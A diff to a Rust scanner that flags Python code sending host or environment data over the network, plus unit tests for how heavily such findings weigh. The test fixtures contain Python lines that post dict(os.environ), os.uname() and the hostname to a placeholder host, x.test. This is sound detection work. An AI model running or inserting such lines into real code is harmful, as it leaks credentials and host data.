@@ -2432,15 +2432,30 @@ impl<'t> Py<'t> {
             for a in args.iter().take(16) {
                 o |= self.origin(*a, 0);
             }
-            if o & (HOST | ENV | STOLEN) != 0 {
+            // The whole environment or a credential store sent away has no benign reading,
+            // so from a function body it weighs like the file's top level.
+            let sent = if o & (ENV | STOLEN) != 0 {
+                Some((
+                    "sends the whole environment or credential files over the network",
+                    Scope {
+                        stage: scope.stage,
+                        factor: scope.factor.max(ctx.top.factor),
+                    },
+                ))
+            } else if o & HOST != 0 {
+                Some(("sends host or environment data over the network", scope))
+            } else {
+                None
+            };
+            if let Some((msg, at)) = sent {
                 push(
                     sink,
                     ctx,
                     "EXFIL-SEND-COLLECTED",
                     line,
                     snip,
-                    "sends host or environment data over the network".into(),
-                    Some(scope),
+                    msg.into(),
+                    Some(at),
                 );
             }
             if let Some(u) = positional.first()
@@ -3623,6 +3638,26 @@ mod tests {
                    data = (\"host:\"\n        f\" {os.uname()}\"\n        f\" {dict(os.environ)}\")\n\
                    urllib.request.urlopen('http://x.test/c', data=json.dumps(data).encode())\n";
         assert!(rules(&run(src)).contains(&"EXFIL-SEND-COLLECTED"));
+    }
+
+    #[test]
+    fn sending_the_whole_environment_from_a_function_is_not_discounted() {
+        let factor = |body: &str| {
+            let src = format!("import os, socket, requests\ndef get(url):\n    {body}\n");
+            let s = run(&src);
+            let f = s.findings.iter().find(|f| f.rule == "EXFIL-SEND-COLLECTED");
+            f.map(|f| (f.stage, f.factor))
+        };
+        // Host identity from a function: run-time weight.
+        assert_eq!(
+            factor("requests.post('https://x.test/c', data=socket.gethostname())"),
+            Some((Some(Stage::Runtime), 0.6))
+        );
+        // The whole environment: the file's top-level weight, still reported at run time.
+        assert_eq!(
+            factor("requests.post('https://x.test/c', json=dict(os.environ))"),
+            Some((Some(Stage::Runtime), 1.0))
+        );
     }
 
     #[test]
